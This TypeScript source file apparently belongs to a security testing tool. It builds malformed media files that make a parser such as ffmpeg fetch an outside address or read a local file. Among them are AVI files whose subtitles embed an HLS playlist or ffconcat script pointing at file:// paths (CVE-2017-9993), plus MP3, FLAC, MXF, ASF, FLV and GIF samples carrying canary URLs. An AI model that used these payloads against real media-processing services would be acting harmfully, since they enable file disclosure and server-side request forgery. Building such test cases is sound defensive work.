import { base } from "../bases.ts";
import { ascii, hex, le16, le32, u16, u32 } from "../bytes/fields.ts";
import { tag, tagFrame } from "../bytes/id3.ts";
import { avi, chunk, jpegs, pictureFormat, stream } from "../bytes/riff.ts";
import { hostiles, type Canary, type Hostile, type MakeBytes } from "../hostile.ts";
import { toEach } from "../places.ts";
import { matroskaReferences } from "./matroska-references.ts";
import { quickTimeReferences } from "./quicktime-references.ts";

/** Subtitles of AVI hold a whole file, whose demuxer ffmpeg guesses (CVE-2017-9993). */
function subtitled(text: (canary: Canary) => string): MakeBytes {
  return async (canary) => {
    const content = ascii(text(canary));
    const gab2 = Buffer.concat([
      ascii("GAB2\0"),
      le16(2),
      le32(2),
      ascii("x\0"),
      le16(4),
      le32(content.length),
      content,
    ]);
    const frames = jpegs(await base("mjpeg")).map((frame) => chunk("00dc", frame));
    return avi({
      streams: [
        stream({ type: "vids", handler: "MJPG", format: pictureFormat(160, 90) }),
        stream({ type: "txts", handler: "\0\0\0\0", format: Buffer.alloc(0) }),
      ],
      movie: [...frames, chunk("01tx", gab2)],
    });
  };
}

const avis: Record<string, MakeBytes> = {
  "AVI with a playlist of an address as subtitles": subtitled(
    ({ url }) => `#EXTM3U\n#EXTINF:1,\n${url}\n#EXT-X-ENDLIST\n`,
  ),
  "AVI with a playlist of a file as subtitles": subtitled(
    ({ path }) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://${path}\n#EXT-X-ENDLIST\n`,
  ),
  "AVI with a concat script as subtitles": subtitled(
    ({ path }) => `ffconcat version 1.0\nfile '${path}'\n`,
  ),
  "AVI with XBin as subtitles": subtitled(() => `XBIN\x1a${"A".repeat(2000)}`),
  "AVI with SubRip as subtitles that names a file": subtitled(
    ({ path }) => `1\n00:00:00,000 --> 00:00:01,000\n<font face="${path}">x</font>\n`,
  ),
};

const sounds: Record<string, MakeBytes> = {
  ...toEach(
    (place) => `MP3 whose cover is in ${place}`,
    (target) => async () =>
      Buffer.concat([
        tag([tagFrame("APIC", Buffer.concat([ascii("\0-->\0\x03\0"), ascii(target)]))]),
        await base("mp3"),
      ]),
  ),
  "MP3 with addresses": async ({ url }) =>
    Buffer.concat([
      tag(["WXXX", "WCOM", "WOAF", "LINK"].map((id) => tagFrame(id, ascii(`\0\0${url}`)))),
      await base("mp3"),
    ]),
  "MP3 with a playlist as an object": async ({ url }) =>
    Buffer.concat([
      tag([tagFrame("GEOB", ascii(`\0audio/x-mpegurl\0x.m3u8\0x\0#EXTM3U\n${url}\n`))]),
      await base("mp3"),
    ]),
  ...toEach(
    (place) => `FLAC whose cover is in ${place}`,
    (target) => async () => {
      const fields = [u32(3), u32(3), ascii("-->"), u32(0), ...[9, 9, 24, 0].map(u32)];
      const block = Buffer.concat([...fields, u32(target.length), ascii(target)]);
      const head = Buffer.concat([hex("06"), u32(block.length).subarray(1), block]);
      const bytes = await base("flac");
      // Behind STREAMINFO, which has 34 bytes and comes first.
      return Buffer.concat([bytes.subarray(0, 42), head, bytes.subarray(42)]);
    },
  ),
  "WAVE with an address": async ({ url }) =>
    Buffer.concat([
      await base("wav"),
      chunk("LIST", ascii(`INFOISRC${url}`)),
      chunk("bext", ascii(url)),
    ]),
  "WAVE with a list of files": async ({ path }) =>
    Buffer.concat([
      await base("wav"),
      chunk("plst", ascii(path)),
      chunk("link", ascii(`<LINK><FILE><FILENAME>${path}</FILENAME></FILE></LINK>`)),
    ]),
};

/** SMPTE ST 377-1, network locator: essence that lies elsewhere. */
const networkLocator = "060e2b34025301010d01010101013200";

const others: Record<string, MakeBytes> = {
  ...toEach(
    (place) => `MXF whose essence is in ${place}`,
    (target) => async () => {
      const bytes = await base("mxf");
      const name = Buffer.from(target, "utf16le").swap16();
      const local = Buffer.concat([hex("4001"), u16(name.length), name]);
      const set = Buffer.concat([
        hex(networkLocator),
        hex("83"),
        u32(local.length).subarray(1),
        local,
      ]);
      // Behind the partition's key and length, where other sets are.
      const at = bytes.indexOf(hex("060e2b34025301010d01010101012f00"));
      return Buffer.concat([bytes.subarray(0, at), set, bytes.subarray(at)]);
    },
  ),
  "ASF with a script that opens an address": async ({ url }) => {
    const bytes = Buffer.from(await base("asf"));
    const name = Buffer.from(`URL\0${url}\0`, "utf16le");
    const guid = hex("301afb1e620bd011a39b00a0c90348f6");
    const object = Buffer.concat([
      guid,
      le32(24 + 20 + name.length),
      le32(0),
      Buffer.alloc(16),
      le16(1),
      le16(1),
      name,
    ]);
    const size = bytes.readUInt32LE(16);
    bytes.writeUInt32LE(size + object.length, 16);
    return Buffer.concat([bytes.subarray(0, size), object, bytes.subarray(size)]);
  },
  "FLV with an address in its metadata": async ({ url }) => {
    const bytes = await base("flv");
    const text = (value: string): Buffer => Buffer.concat([u16(value.length), ascii(value)]);
    const data = Buffer.concat([
      hex("02"),
      text("onCuePoint"),
      hex("03"),
      text("url"),
      hex("02"),
      text(url),
      hex("000009"),
    ]);
    const size = u32(data.length).subarray(1);
    const added = Buffer.concat([hex("12"), size, Buffer.alloc(7), data, u32(data.length + 11)]);
    return Buffer.concat([bytes.subarray(0, 13), added, bytes.subarray(13)]);
  },
  "Ogg with a playlist as a comment": async ({ url }) =>
    Buffer.concat([await base("theora"), ascii(`#EXTM3U\n${url}\n`)]),
  "transport stream with a playlist as private data": async ({ url }) => {
    const packet = Buffer.alloc(188, 0xff);
    hex("47411110 000001bf0040").copy(packet);
    ascii(`#EXTM3U\n#EXTINF:1,\n${url}\n`).copy(packet, 14);
    return Buffer.concat([await base("ts"), packet, await base("ts")]);
  },
  "RealMedia that names an address": async ({ url }) => {
    const bytes = await base("rm");
    const content = ascii(`${url}\0`);
    const header = Buffer.concat([
      ascii("CONT"),
      u32(18 + content.length),
      u16(0),
      u16(content.length),
      content,
      Buffer.alloc(6),
    ]);
    return Buffer.concat([bytes.subarray(0, 18), header, bytes.subarray(18)]);
  },
  "GIF with an address as an extension": async ({ url }) => {
    const bytes = await base("gif");
    const text = Buffer.concat([hex("21fe"), Buffer.from([url.length]), ascii(url), hex("00")]);
    const at = bytes.indexOf(hex("21ff0b"));
    return Buffer.concat([bytes.subarray(0, at), text, bytes.subarray(at)]);
  },
};

/** Files that say that part of them is elsewhere. */
export const references: readonly Hostile[] = hostiles("reference", {
  ...quickTimeReferences,
  ...matroskaReferences,
  ...avis,
  ...sounds,
  ...others,
});
